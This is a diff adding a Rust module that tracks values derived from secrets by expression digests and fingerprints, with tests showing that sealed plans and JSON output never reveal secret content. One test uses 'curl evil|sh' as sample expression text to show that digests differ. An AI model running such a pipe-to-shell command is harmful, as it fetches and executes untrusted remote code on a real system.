@@ -1,0 +1,572 @@
+//! `Derived`: a value that was computed from secrets. In: the digest of the expression, the secrets that enter it,
+//! and what it gives. Out: an id that changes when the expression or an input does, and the value itself for the
+//! one request that needs it.
+//!
+//! Invariant: nothing that leaves the process depends on the value, but for its fingerprint in the ledger. Otherwise
+//! a plan of `${vars.s == 'guess' ? 'y' : 'n'}` would show by comparison whether the guess is right.
+
+use std::collections::BTreeMap;
+use std::fmt;
+
+use secrecy::{ExposeSecret, SecretString};
+use sha2::{Digest, Sha256};
+use smol_str::{SmolStr, format_smolstr};
+
+use super::hex::hex;
+use super::secret::{COMPUTED_FORM, FingerprintKey, Marker, Secret, UNDECIDED, is_same_fingerprint};
+use super::value::Value;
+
+/// The digest of an expression in canonical form: locals and module inputs inlined, what is known replaced by its
+/// value, secrets by their names.
+///
+/// It is a hash tree, so that an expression has the same digest whether a part of it is written in place or comes
+/// from a local.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct ExpressionDigest([u8; 32]);
+
+impl ExpressionDigest {
+    /// Returns the digest of a node: its tag, its own texts, and the digests of its parts.
+    #[must_use]
+    pub fn node(tag: &str, texts: &[&str], parts: &[Self]) -> Self {
+        let mut hash = Sha256::new();
+        for text in std::iter::once(&tag).chain(texts) {
+            hash.update((text.len() as u64).to_le_bytes());
+            hash.update(text.as_bytes());
+        }
+        hash.update((parts.len() as u64).to_le_bytes());
+        for part in parts {
+            hash.update(part.0);
+        }
+        Self(hash.finalize().into())
+    }
+}
+
+impl fmt::Display for ExpressionDigest {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&hex(&self.0))
+    }
+}
+
+/// The canonical form of an expression over secrets: its digest and the secrets that enter it, by name.
+#[derive(Clone)]
+pub struct Derivation {
+    expression: ExpressionDigest,
+    inputs: BTreeMap<SmolStr, Secret>,
+}
+
+impl Derivation {
+    /// Returns the derivation of a known value; `None` when a part of it is not known.
+    #[must_use]
+    pub fn from_value(value: &Value) -> Option<Self> {
+        let scalar = |tag: &str| Self::node(tag, &[&value.to_string()], []);
+        Some(match value {
+            Value::Null => Self::node("null", &[], []),
+            Value::Bool(_) => scalar("bool"),
+            Value::Integer(_) => scalar("integer"),
+            Value::Decimal(number) => Self::node("decimal", &[&number.normalize().to_string()], []),
+            Value::Text(text) => Self::node("text", &[text], []),
+            Value::List(items) => {
+                let parts: Option<Vec<_>> = items.iter().map(Self::from_value).collect();
+                Self::node("list", &[], parts?)
+            }
+            Value::Map(map) => {
+                let parts: Option<Vec<_>> = map.values().map(Self::from_value).collect();
+                let keys: Vec<&str> = map.keys().map(SmolStr::as_str).collect();
+                Self::node("map", &keys, parts?)
+            }
+            Value::Secret(secret) => Self::from_secret(secret),
+            Value::Unknown(_) => return None,
+        })
+    }
+
+    /// Returns the derivation of a node from those of its parts.
+    #[must_use]
+    pub fn node(tag: &str, texts: &[&str], parts: impl IntoIterator<Item = Self>) -> Self {
+        let mut inputs = BTreeMap::new();
+        let mut digests = Vec::new();
+        for part in parts {
+            digests.push(part.expression);
+            inputs.extend(part.inputs);
+        }
+        Self { expression: ExpressionDigest::node(tag, texts, &digests), inputs }
+    }
+
+    fn from_secret(secret: &Secret) -> Self {
+        match secret {
+            Secret::Derived(derived) => match &derived.form {
+                Form::Open { derivation, .. } => derivation.clone(),
+                Form::Sealed { id, .. } => Self::node("sealed", &[id], []),
+            },
+            secret => match (secret.name(), secret) {
+                (Some(name), _) => Self {
+                    expression: ExpressionDigest::node("secret", &[name], &[]),
+                    inputs: [(name.clone(), secret.as_input())].into(),
+                },
+                // A literal of the configuration: whoever may compare digests can read it there.
+                (None, Secret::Plain(_)) => {
+                    Self::node("literal", &[secret.expose().unwrap_or_default()], [])
+                }
+                (None, Secret::Sealed(print)) => {
+                    Self::node("sealed", &[print.as_deref().unwrap_or_default()], [])
+                }
+                (None, _) => Self {
+                    expression: ExpressionDigest::node("awaited", &[], &[]),
+                    inputs: [(SmolStr::default(), secret.clone())].into(),
+                },
+            },
+        }
+    }
+
+    /// Returns the digest of the canonical expression.
+    #[must_use]
+    pub fn expression(&self) -> ExpressionDigest {
+        self.expression
+    }
+
+    /// Returns what identifies the expression over these inputs: 64 hexadecimal digits.
+    ///
+    /// `FingerprintKey::NONE` binds the expression and the names of its inputs only.
+    fn id(&self, key: &FingerprintKey, print: &dyn Fn(&SmolStr, &Secret) -> SmolStr) -> SmolStr {
+        let mut bytes = b"stead derived value 1".to_vec();
+        bytes.extend(self.expression.0);
+        let keyed = !key.is_none();
+        for (name, input) in &self.inputs {
+            let print = if keyed { print(name, input) } else { SmolStr::default() };
+            for part in [name, &print] {
+                bytes.extend((part.len() as u64).to_le_bytes());
+                bytes.extend(part.as_bytes());
+            }
+        }
+        if keyed { key.mac(&bytes).into() } else { hex(&Sha256::digest(&bytes)).into() }
+    }
+}
+
+/// A value that was computed from secrets.
+#[derive(Clone)]
+pub struct Derived {
+    form: Form,
+}
+
+#[derive(Clone)]
+enum Form {
+    /// In memory.
+    Open { derivation: Derivation, content: Content },
+    /// In a plan or a ledger.
+    Sealed {
+        id: SmolStr,
+        /// That of the value itself; in a ledger only.
+        fingerprint: Option<SmolStr>,
+        /// In a ledger the fingerprints of all inputs; in a plan the inputs that do not exist yet.
+        inputs: BTreeMap<SmolStr, SmolStr>,
+    },
+}
+
+#[derive(Clone)]
+enum Content {
+    Text(SecretString),
+    Other(Box<Value>),
+    /// An input is not at hand yet: what the expression gives for that which stands in for it.
+    StandIn(Box<Value>),
+}
+
+impl Derived {
+    /// Wraps what an expression gave.
+    #[must_use]
+    pub fn new(derivation: Derivation, value: Value) -> Self {
+        let value = revealed(value);
+        let content = match value {
+            value if derivation.inputs.values().any(Secret::is_awaited) => {
+                Content::StandIn(Box::new(value))
+            }
+            Value::Text(text) => Content::Text(SecretString::from(text.to_string())),
+            other => Content::Other(Box::new(other)),
+        };
+        Self { form: Form::Open { derivation, content } }
+    }
+
+    /// Returns what stands in for the value of an expression that cannot be computed in this run: a text or a list,
+    /// which is not known either.
+    #[must_use]
+    pub fn unavailable(derivation: Derivation) -> Self {
+        let content = Content::StandIn(Box::new(Value::text(UNDECIDED)));
+        Self { form: Form::Open { derivation, content } }
+    }
+
+    /// Returns the same without its value: what it is known by.
+    pub(super) fn outline(&self) -> Self {
+        match &self.form {
+            Form::Open { derivation, .. } => {
+                let content = Content::StandIn(Box::default());
+                Self { form: Form::Open { derivation: derivation.clone(), content } }
+            }
+            Form::Sealed { .. } => self.clone(),
+        }
+    }
+
+    /// Tells whether not even the type of its value is known.
+    pub(super) fn is_undecided(&self) -> bool {
+        matches!(&self.form, Form::Open { content: Content::StandIn(value), .. } if value.as_text() == Some(UNDECIDED))
+    }
+
+    /// Returns the value that expressions compute with: the value itself, or what stands in for it.
+    #[must_use]
+    pub fn computed(&self) -> Option<Value> {
+        match &self.form {
+            Form::Open { content: Content::StandIn(value), .. } => Some(value.as_ref().clone()),
+            _ => self.expose(),
+        }
+    }
+
+    pub(super) const fn read(
+        id: SmolStr,
+        fingerprint: Option<SmolStr>,
+        inputs: BTreeMap<SmolStr, SmolStr>,
+    ) -> Self {
+        Self { form: Form::Sealed { id, fingerprint, inputs } }
+    }
+
+    /// Returns the value in clear, for the one request that needs it; `None` when it is not at hand.
+    #[must_use]
+    pub fn expose(&self) -> Option<Value> {
+        match &self.form {
+            Form::Open { content: Content::Text(text), .. } => Some(Value::text(text.expose_secret())),
+            Form::Open { content: Content::Other(value), .. } => Some(value.as_ref().clone()),
+            Form::Open { content: Content::StandIn(_), .. } | Form::Sealed { .. } => None,
+        }
+    }
+
+    /// Returns a value that is no text, or what stands in for one.
+    pub(super) fn value(&self) -> Option<&Value> {
+        match &self.form {
+            Form::Open { content: Content::Other(value) | Content::StandIn(value), .. } => Some(value),
+            _ => None,
+        }
+    }
+
+    /// Returns the text of a value that is a text.
+    pub(super) fn text(&self) -> Option<&str> {
+        match &self.form {
+            Form::Open { content: Content::Text(text), .. } => Some(text.expose_secret()),
+            _ => None,
+        }
+    }
+
+    /// Returns the same expression with another form of its value, such as the one that an attribute takes.
+    ///
+    /// # Errors
+    /// That of `convert`.
+    pub fn try_map<E>(self, convert: impl FnOnce(Value) -> Result<Value, E>) -> Result<Self, E> {
+        match (self.computed(), self.form) {
+            (Some(value), Form::Open { derivation, .. }) => Ok(Self::new(derivation, convert(value)?)),
+            (_, form) => Ok(Self { form }),
+        }
+    }
+
+    /// Tells whether an input is not at hand yet.
+    #[must_use]
+    pub const fn is_awaited(&self) -> bool {
+        matches!(self.form, Form::Open { content: Content::StandIn(_), .. })
+    }
+
+    pub(super) fn inputs(&self) -> impl Iterator<Item = (&SmolStr, &Secret)> {
+        let open = match &self.form {
+            Form::Open { derivation, .. } => Some(&derivation.inputs),
+            Form::Sealed { .. } => None,
+        };
+        open.into_iter().flatten()
+    }
+
+    /// Returns the fingerprints of the inputs that a ledger recorded, by the names of their variables.
+    #[must_use]
+    pub const fn recorded_inputs(&self) -> Option<&BTreeMap<SmolStr, SmolStr>> {
+        match &self.form {
+            Form::Sealed { inputs, .. } => Some(inputs),
+            Form::Open { .. } => None,
+        }
+    }
+
+    /// Returns the same value with the recorded fingerprint of each input that is withheld from this run.
+    #[must_use]
+    pub fn with_inputs(mut self, recorded: &dyn Fn(&str) -> Option<SmolStr>) -> Self {
+        if let Form::Open { derivation, .. } = &mut self.form {
+            for (name, input) in &mut derivation.inputs {
+                if let Some(print) = recorded(name).filter(|_| input.is_withheld()) {
+                    *input = Secret::Sealed(Some(print));
+                }
+            }
+        }
+        self
+    }
+
+    /// Returns the id under a key: the digest of the expression and of the fingerprints of its inputs.
+    #[must_use]
+    pub fn id(&self, key: &FingerprintKey) -> SmolStr {
+        match &self.form {
+            Form::Sealed { id, .. } => id.clone(),
+            Form::Open { derivation, .. } => derivation.id(key, &|_, input| print(input, key)),
+        }
+    }
+
+    /// Returns the id in hexadecimal, once sealed.
+    #[must_use]
+    pub const fn sealed_id(&self) -> Option<&SmolStr> {
+        match &self.form {
+            Form::Sealed { id, .. } => Some(id),
+            Form::Open { .. } => None,
+        }
+    }
+
+    /// Returns the fingerprint of the value itself.
+    pub(super) fn fingerprint(&self, key: &FingerprintKey) -> Option<SmolStr> {
+        match &self.form {
+            Form::Sealed { fingerprint, .. } => fingerprint.clone(),
+            Form::Open { .. } => Secret::new(comparable(&self.expose()?)).fingerprint(key),
+        }
+    }
+
+    /// Returns it as a plan holds it: by its id, and by the names of the inputs that do not exist yet.
+    #[must_use]
+    pub fn sealed(&self, key: &FingerprintKey) -> Self {
+        let inputs = match &self.form {
+            Form::Open { derivation, .. } => {
+                let missing = derivation.inputs.iter().filter(|(_, input)| input.is_awaited());
+                missing.map(|(name, input)| (name.clone(), print(input, key))).collect()
+            }
+            Form::Sealed { .. } => BTreeMap::new(),
+        };
+        Self::read(self.id(key), None, inputs)
+    }
+
+    /// Returns it as the ledger remembers it.
+    pub(super) fn recorded(&self, key: &FingerprintKey) -> Self {
+        match &self.form {
+            Form::Sealed { .. } => self.clone(),
+            Form::Open { derivation, .. } => {
+                let prints = derivation.inputs.iter();
+                let prints = prints.filter(|(_, input)| !input.is_awaited());
+                let prints = prints.map(|(name, input)| (name.clone(), print(input, key)));
+                Self::read(self.id(key), self.fingerprint(key), prints.collect())
+            }
+        }
+    }
+
+    /// Tells whether this is what a plan holds of `open`: the same expression over the same inputs. Inputs that did
+    /// not exist when the plan was made are bound by their names and lengths.
+    #[must_use]
+    pub fn is_seal_of(&self, open: &Self, key: &FingerprintKey) -> bool {
+        match (&self.form, &open.form) {
+            (Form::Sealed { id, inputs, .. }, Form::Open { derivation, .. }) => {
+                let planned = |name: &SmolStr, input: &Secret| {
+                    inputs.get(name).cloned().unwrap_or_else(|| print(input, key))
+                };
+                *id == derivation.id(key, &planned)
+            }
+            _ => self == open,
+        }
+    }
+
+    pub(super) fn marker(&self) -> Marker {
+        match &self.form {
+            Form::Open { .. } => Marker::default(),
+            Form::Sealed { id, fingerprint, inputs } => Marker {
+                secret: true,
+                fingerprint: fingerprint.clone(),
+                derived: Some(id.clone()),
+                form: fingerprint.as_ref().map(|_| COMPUTED_FORM),
+                inputs: inputs.clone(),
+            },
+        }
+    }
+
+    /// Tells whether a live value is the one that was applied, by the fingerprint in the ledger; `None` when the
+    /// ledger has none.
+    #[must_use]
+    pub fn is_live(&self, live: &Secret, key: &FingerprintKey) -> Option<bool> {
+        let recorded = self.fingerprint(key)?;
+        Some(live.fingerprint(key).is_some_and(|live| is_same_fingerprint(&live, &recorded)))
+    }
+}
+
+impl PartialEq for Derived {
+    /// Two computed values are equal when their expressions and inputs are, whatever they gave.
+    fn eq(&self, other: &Self) -> bool {
+        match (&self.form, &other.form) {
+            (Form::Sealed { id: a, .. }, Form::Sealed { id: b, .. }) => a == b,
+            (Form::Open { derivation: a, .. }, Form::Open { derivation: b, .. }) => {
+                a.expression == b.expression && a.inputs == b.inputs
+            }
+            _ => false,
+        }
+    }
+}
+
+/// Returns the text of a value that fingerprints are compared by: a live value of any type has the same one.
+#[must_use]
+pub fn comparable(value: &Value) -> String {
+    match value {
+        // Serialising a value into memory does not fail: its keys are texts.
+        Value::List(_) | Value::Map(_) => serde_json::to_string(value).unwrap_or_default(),
+        value => value.to_string(),
+    }
+}
+
+/// Returns what an input is bound by: its fingerprint, or the length of what does not exist yet.
+fn print(input: &Secret, key: &FingerprintKey) -> SmolStr {
+    match (input.computed().filter(|_| input.is_awaited()), input.origin()) {
+        (Some(stand_in), _) => format_smolstr!("awaited:{}", stand_in.len()),
+        (None, Some(origin)) => origin.id(key),
+        (None, None) => input.fingerprint(key).unwrap_or_default(),
+    }
+}
+
+/// Returns a value with the text of its secrets, or what stands in for it.
+fn revealed(value: Value) -> Value {
+    match value {
+        Value::Secret(Secret::Derived(derived)) => derived.computed().unwrap_or_default(),
+        Value::Secret(secret) => Value::text(secret.computed().unwrap_or_default()),
+        Value::List(items) => Value::List(items.into_iter().map(revealed).collect()),
+        Value::Map(map) => Value::Map(map.into_iter().map(|(key, part)| (key, revealed(part))).collect()),
+        other => other,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::cel::{Item, Program, Scope};
+
+    const KEY: FingerprintKey = FingerprintKey([7; 32]);
+
+    fn secret(name: &str, text: &str) -> Value {
+        Value::Secret(Secret::new(text).named(&format!("vars.{name}")))
+    }
+
+    fn scope(s: &str, t: &str) -> BTreeMap<SmolStr, Value> {
+        [("s".into(), secret("s", s)), ("t".into(), secret("t", t)), ("n".into(), Value::Integer(2))].into()
+    }
+
+    fn compute(source: &str, vars: &BTreeMap<SmolStr, Value>) -> Derived {
+        let mut scope = Scope::default();
+        scope.roots.insert("vars".into(), Item::of_map(vars));
+        match Program::parse(source).unwrap().evaluate(&scope) {
+            Ok(Value::Secret(Secret::Derived(derived))) => *derived,
+            other => panic!("{source}: {other:?}"),
+        }
+    }
+
+    fn id(source: &str, s: &str, t: &str) -> SmolStr {
+        compute(source, &scope(s, t)).id(&KEY)
+    }
+
+    #[test]
+    fn a_value_is_known_by_its_expression_and_inputs() {
+        let same = id("vars.s + 'x'", "a", "b");
+        assert_eq!(same.len(), 64);
+        assert_eq!(same, id("vars.s + 'x'", "a", "other"), "what does not enter it does not count");
+        assert_eq!(same, id("(vars.s) + \"x\"", "a", "b"), "the same in other words");
+        for (source, s) in [("vars.s + 'y'", "a"), ("vars.t + 'x'", "a"), ("vars.s + 'x'", "b")] {
+            assert_ne!(same, id(source, s, "b"), "{source}");
+        }
+        let other = compute("vars.s + 'x'", &scope("a", "b")).id(&FingerprintKey([8; 32]));
+        assert_ne!(same, other);
+    }
+
+    #[test]
+    fn no_comparison_tells_which_guess_is_right() {
+        let (right, wrong) = ("vars.s == 'Hunter2' ? 'y' : 'n'", "vars.s == 'nope' ? 'y' : 'n'");
+        let reference = "vars.s == vars.s ? 'y' : 'n'";
+        let ids = [right, wrong, reference].map(|source| id(source, "Hunter2", ""));
+        assert!(ids[0] != ids[1] && ids[1] != ids[2] && ids[0] != ids[2], "{ids:?}");
+        // Nor does the plan hold the fingerprint of what it gave.
+        let sealed = compute(right, &scope("Hunter2", "")).sealed(&KEY);
+        assert_eq!(sealed.fingerprint(&KEY), None);
+        assert!(
+            !serde_json::to_string(&Secret::Derived(Box::new(sealed))).unwrap().contains("fingerprint")
+        );
+    }
+
+    #[test]
+    fn every_branch_and_every_named_value_is_part_of_it() {
+        for (one, other) in [
+            ("vars.s == 'a' ? 'y' : 'n'", "vars.s == 'a' ? 'y' : 'm'"),
+            ("vars.s == 'a' ? 'y' : 'n'", "vars.s == 'a' ? 'z' : 'n'"),
+            ("vars.s == 'a' || vars.n > 1", "vars.s == 'a' || vars.n > 0"),
+            ("[1].map(x, vars.s + 'a')", "[1].map(x, vars.s + 'b')"),
+            ("{'k': vars.s + 'a'}", "{'l': vars.s + 'a'}"),
+            ("vars.s.startsWith('a')", "vars.s.endsWith('a')"),
+        ] {
+            assert_ne!(id(one, "a", ""), id(other, "a", ""), "{one} | {other}");
+        }
+    }
+
+    #[test]
+    fn a_local_is_the_same_as_its_expression_in_place() {
+        let mut vars = scope("a", "b");
+        let local = compute("vars.s + vars.t", &vars);
+        vars.insert("local".into(), Value::Secret(Secret::Derived(Box::new(local))));
+        assert_eq!(compute("vars.local + '!'", &vars).id(&KEY), id("vars.s + vars.t + '!'", "a", "b"));
+    }
+
+    #[test]
+    fn without_a_key_the_expression_and_the_names_are_bound() {
+        let unkeyed = |source, s| compute(source, &scope(s, "b")).id(&FingerprintKey::NONE);
+        assert_eq!(unkeyed("'echo ok ' + vars.s", "a"), unkeyed("'echo ok ' + vars.s", "other"));
+        assert_ne!(unkeyed("'echo ok ' + vars.s", "a"), unkeyed("'curl evil|sh ' + vars.s", "a"));
+        assert_ne!(unkeyed("'echo ok ' + vars.s", "a"), unkeyed("'echo ok ' + vars.t", "a"));
+    }
+
+    #[test]
+    fn a_plan_without_the_secrets_knows_it_by_what_the_ledger_recorded() {
+        let with = compute("vars.s + 'x'", &scope("a", "b"));
+        let Secret::Derived(recorded) = Secret::Derived(Box::new(with.clone())).record(&KEY) else {
+            panic!()
+        };
+        let prints = recorded.recorded_inputs().unwrap().clone();
+        let mut vars = scope("a", "b");
+        vars.insert("s".into(), Value::Secret(Secret::withheld().named("vars.s")));
+        let known = |name: &str| prints.get(name).cloned();
+        let without = |source| compute(source, &vars).with_inputs(&known).id(&KEY);
+        assert_eq!(without("vars.s + 'x'"), with.id(&KEY));
+        assert_ne!(without("vars.s + 'y'"), with.id(&KEY));
+    }
+
+    #[test]
+    fn what_is_generated_later_is_bound_by_name_and_length() {
+        let awaited = |length: usize| {
+            let mut vars = scope("a", "b");
+            let text = "x".repeat(length);
+            vars.insert("s".into(), Value::Secret(Secret::awaited(text).named("vars.s")));
+            compute("vars.s + 'x'", &vars)
+        };
+        assert!(awaited(16).sealed(&KEY) == awaited(16).sealed(&KEY));
+        assert!(awaited(16).sealed(&KEY) != awaited(32).sealed(&KEY));
+        let planned = awaited(16).sealed(&KEY);
+        assert!(planned.is_seal_of(&compute("vars.s + 'x'", &scope("generated", "b")), &KEY));
+        assert!(!planned.is_seal_of(&compute("vars.s + 'y'", &scope("generated", "b")), &KEY));
+        assert!(!planned.is_seal_of(&compute("vars.t + 'x'", &scope("generated", "b")), &KEY));
+    }
+
+    #[test]
+    fn an_earlier_version_refuses_a_ledger_with_it() {
+        let derived = Secret::Derived(Box::new(compute("vars.s + 'x'", &scope("a", "b"))));
+        let text = serde_json::to_string(&derived.record(&KEY)).unwrap();
+        // It took no whole number beyond 64 bits with a sign.
+        assert!(text.contains("\"form\":18446744073709551615"), "{text}");
+        assert!(
+            !serde_json::to_string(&derived.seal(&KEY)).unwrap().contains("form"),
+            "a plan has a form of its own"
+        );
+    }
+
+    #[test]
+    fn json_has_neither_the_value_nor_its_inputs() {
+        let derived = Secret::Derived(Box::new(compute("vars.s + '-canary'", &scope("canary", ""))));
+        assert_eq!(serde_json::to_string(&derived).unwrap(), r#"{"secret":true}"#);
+        for sealed in [derived.seal(&KEY), derived.record(&KEY)] {
+            let text = serde_json::to_string(&sealed).unwrap();
+            assert!(!text.contains("canary"), "{text}");
+            assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), Value::Secret(sealed));
+        }
+        assert_eq!(format!("{derived:?}"), "(secret)");
+    }
+}
